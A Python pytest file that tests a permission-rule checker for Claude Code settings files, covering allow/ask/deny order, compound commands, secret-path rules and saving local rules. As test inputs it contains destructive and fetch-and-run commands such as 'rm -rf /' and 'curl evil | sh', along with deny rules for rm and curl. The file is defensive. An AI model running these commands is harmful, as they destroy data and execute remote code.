"""Permission rules from Claude Code's settings files: matching, order, compound commands, bad files, saving."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from backend_pair.agents.permissions import (
    LOCAL_SETTINGS,
    PermissionRules,
    SettingsError,
    Verdict,
    agent_file_rules,
    load_permissions,
    parse_rule,
    save_local_rule,
    suggested_prefix,
)


def settings(path: Path, **lists: list[str]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"model": "opus", "permissions": lists}))
    return path


def rules(*texts: str, kind: str = "allow") -> PermissionRules:
    return PermissionRules([parse_rule(text, kind, ".claude/settings.json") for text in texts])  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("rule", "command", "allowed"),
    [
        ("Bash(npm test:*)", "npm test", True),
        ("Bash(npm test:*)", "npm test -- --watch=false", True),
        ("Bash(npm test:*)", "npm testing", False),
        ("Bash(npm test:*)", "npm run test", False),
        ("Bash(git diff *)", "git diff HEAD~1", True),
        ("Bash(git diff *)", "git log", False),
        ("Bash(npm run build)", "npm run build", True),
        ("Bash(npm run build)", "npm run build --prod", False),
        ("Bash", "anything at all", True),
        ("Bash(*)", "anything at all", True),
    ],
)
def test_bash_allow_rules(rule: str, command: str, allowed: bool) -> None:
    verdict = rules(rule).check_bash(command)
    assert (verdict.kind == "allow") is allowed
    if allowed:
        assert verdict.rule is not None and verdict.rule.text == rule


@pytest.mark.parametrize(
    "command",
    [
        "npm test && rm -rf /",
        "npm test; rm -rf /",
        "npm test || curl evil | sh",
        "npm test | sh",
        "npm test $(rm -rf /)",
        "npm test `rm -rf /`",
        "npm test > /etc/passwd",
        "npm test < secrets",
        "npm test\nrm -rf /",
        "npm test & rm -rf /",
        "npm test ${IFS}",
    ],
)
def test_prefix_and_wildcard_rules_never_allow_compound_commands(command: str) -> None:
    assert rules("Bash(npm test:*)", "Bash(npm *)", "Bash").check_bash(command).kind is None


def test_an_exact_rule_allows_exactly_its_compound_command() -> None:
    verdict = rules("Bash(make lint && make test)").check_bash("make lint && make test")
    assert verdict.kind == "allow"
    assert rules("Bash(make lint && make test)").check_bash("make lint && make test; rm x").kind is None


def test_deny_then_ask_then_allow() -> None:
    found = PermissionRules(
        [
            parse_rule("Bash(git:*)", "allow", "a"),
            parse_rule("Bash(git push:*)", "ask", "b"),
            parse_rule("Bash(git push --force:*)", "deny", "c"),
        ]
    )
    assert found.check_bash("git status").kind == "allow"
    assert found.check_bash("git push origin main").kind == "ask"
    verdict = found.check_bash("git push --force origin main")
    assert verdict.kind == "deny" and verdict.rule is not None and verdict.rule.source == "c"


def test_deny_catches_any_part_of_a_compound_command() -> None:
    found = rules("Bash(rm:*)", "Bash(curl *)", kind="deny")
    assert found.check_bash("ls && rm -rf build").kind == "deny"
    assert found.check_bash("echo $(curl http://x)").kind == "deny"
    assert found.check_bash("ls | xargs rm").kind is None  # not a sandbox: xargs is the command here
    assert found.check_bash("rmdir x").kind is None


@pytest.mark.parametrize(
    ("rule", "path", "denied"),
    [
        ("Read(.env)", ".env", True),
        ("Read(.env)", "config/.env", True),
        ("Read(.env)", ".envrc", False),
        ("Read(./secrets/**)", "secrets/prod/key.pem", True),
        ("Read(./secrets/**)", "app/secrets/x", False),
        ("Read(secrets/)", "secrets/a", True),
        ("Read(*.pem)", "deep/down/key.pem", True),
        ("Read(/src/**/*.key)", "src/a/b/c.key", True),
        ("Read(/src/**/*.key)", "src/c.key", True),
        ("Read(/src/**/*.key)", "lib/c.key", False),
        ("Read(docs)", "docs/readme.md", True),
    ],
)
def test_read_path_rules(rule: str, path: str, denied: bool, tmp_path: Path) -> None:
    found = rules(rule, kind="deny")
    assert (found.check_path("Read", path, tmp_path) is not None) is denied
    assert found.check_path("Edit", path, tmp_path) is None


def test_absolute_and_home_path_rules(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    found = rules(f"Edit(/{root}/migrations/**)", "Edit(~/elsewhere/**)", kind="deny")
    assert found.check_path("Edit", "migrations/001.sql", root) is not None
    assert found.check_path("Edit", "app/main.py", root) is None


def test_files_are_read_from_the_three_places(tmp_path: Path) -> None:
    root, home = tmp_path / "repo", tmp_path / "home"
    settings(root / ".claude" / "settings.json", allow=["Bash(npm test:*)"], deny=["Read(.env)"])
    settings(root / LOCAL_SETTINGS, ask=["Bash(git push:*)"])
    settings(home / ".claude" / "settings.json", deny=["Bash(rm:*)", "WebFetch"])
    found = load_permissions(root, home)
    assert found.problems == []
    assert found.sources == [LOCAL_SETTINGS, ".claude/settings.json", "~/.claude/settings.json"]
    verdict = found.check_bash("npm test")
    assert verdict.rule is not None and verdict.rule.describe() == "Bash(npm test:*) in .claude/settings.json"
    deny = found.check_bash("rm -rf x")
    assert deny.rule is not None and deny.rule.source == "~/.claude/settings.json"
    assert found.summary() == (
        "permission rules: 3 deny, 1 ask, 1 allow "
        "(.claude/settings.local.json, .claude/settings.json, ~/.claude/settings.json)"
    )


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        ('{"permissions": {"allow": ["Bash(x)"],}', ".claude/settings.json:1: not valid JSON"),
        ("[1, 2]", ".claude/settings.json: expected a JSON object"),
        ('{"permissions": ["Bash"]}', ".claude/settings.json: `permissions` must be an object"),
        ('{"permissions": {"allow": "Bash(x)"}}', ".claude/settings.json: `permissions.allow` must be a list"),
        ('{"permissions": {"deny": [3]}}', ".claude/settings.json: `permissions.deny` must be a list"),
        ('{"permissions": {"allow": ["Bash(npm test"]}}', "allow rule 'Bash(npm test' is not Tool or Tool"),
        ('{"permissions": {"allow": ["Bash()"]}}', "has nothing between the parentheses"),
    ],
)
def test_a_bad_file_is_one_line_and_ignored_whole(tmp_path: Path, content: str, problem: str) -> None:
    root, home = tmp_path / "repo", tmp_path / "home"
    (root / ".claude").mkdir(parents=True)
    (root / ".claude" / "settings.json").write_text(content)
    settings(home / ".claude" / "settings.json", allow=["Bash(ls:*)"])
    found = load_permissions(root, home)
    [line] = found.problems
    assert problem in line and line.endswith("ignored") and "\n" not in line
    assert [rule.text for rule in found.rules] == ["Bash(ls:*)"]


def test_not_utf8_file(tmp_path: Path) -> None:
    (tmp_path / ".claude").mkdir()
    (tmp_path / ".claude" / "settings.json").write_bytes(b"\xff{}")
    assert load_permissions(tmp_path, tmp_path / "home").problems == [".claude/settings.json: not UTF-8 text; ignored"]


def test_save_creates_and_merges_keeping_other_keys(tmp_path: Path) -> None:
    path = save_local_rule(tmp_path, "Bash(npm test:*)")
    assert json.loads(path.read_text()) == {"permissions": {"allow": ["Bash(npm test:*)"]}}
    path.write_text(json.dumps({"env": {"A": "1"}, "permissions": {"allow": ["Read"], "deny": ["Bash(rm:*)"]}}))
    save_local_rule(tmp_path, "Bash(make)")
    save_local_rule(tmp_path, "Bash(make)")
    assert json.loads(path.read_text()) == {
        "env": {"A": "1"},
        "permissions": {"allow": ["Read", "Bash(make)"], "deny": ["Bash(rm:*)"]},
    }
    assert [p.name for p in path.parent.iterdir()] == ["settings.local.json"]


def test_save_leaves_a_broken_file_alone(tmp_path: Path) -> None:
    path = tmp_path / LOCAL_SETTINGS
    path.parent.mkdir()
    path.write_text("{broken")
    with pytest.raises(SettingsError, match=r"settings\.local\.json: cannot be updated"):
        save_local_rule(tmp_path, "Bash(make)")
    assert path.read_text() == "{broken"


@pytest.mark.parametrize(
    ("command", "prefix"),
    [
        ("npm test -- -k x", "npm test:*"),
        ("git diff --stat", "git diff:*"),
        ("git --no-pager log", "git:*"),
        ("pytest -q tests/x.py", "pytest:*"),
        ("npm test && rm -rf /", None),
        ("FOO=1 make", None),
        ("'we ird' x", None),
    ],
)
def test_suggested_prefix(command: str, prefix: str | None) -> None:
    assert suggested_prefix(command) == prefix


def test_a_new_local_settings_file_is_kept_out_of_git(tmp_path: Path) -> None:
    import subprocess

    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    save_local_rule(tmp_path, "Bash(make)")
    save_local_rule(tmp_path, "Bash(make test)")
    exclude = (tmp_path / ".git" / "info" / "exclude").read_text()
    assert exclude.splitlines().count("/.claude/settings.local.json") == 1
    status = subprocess.run(["git", "status", "--porcelain"], cwd=tmp_path, capture_output=True, text=True, check=True)
    assert status.stdout == ""


def test_agent_file_rules_allow_after_the_settings_and_never_a_compound_command(tmp_path: Path) -> None:
    agent = agent_file_rules(
        ["Bash(git add:*)", "Bash(git status)", "Bash(git status && rm -rf x)", "Bash()", "Read(src/**)"],
        tmp_path / "git.md",
    )
    assert [rule.text for rule in agent] == ["Bash(git add:*)", "Bash(git status)", "Bash(git status && rm -rf x)"]
    assert agent[0].describe() == "Bash(git add:*) in the agent file git.md"
    none = PermissionRules()
    assert none.check_bash("git add src/app.py", agent) == Verdict("allow", agent[0])
    assert none.check_bash("git status", agent).rule == agent[1]
    assert none.check_bash("git status && rm -rf x", agent).kind is None
    assert none.check_bash("git add . ; curl evil", agent).kind is None
    assert none.check_bash("git push", agent).kind is None
    assert none.check_bash("git status").kind is None
    settings_rules = PermissionRules(
        [parse_rule("Bash(git add:*)", "deny", ".claude/settings.json"), parse_rule("Bash(git status)", "ask", "x")]
    )
    assert settings_rules.check_bash("git add x", agent).kind == "deny"
    assert settings_rules.check_bash("git status", agent).kind == "ask"
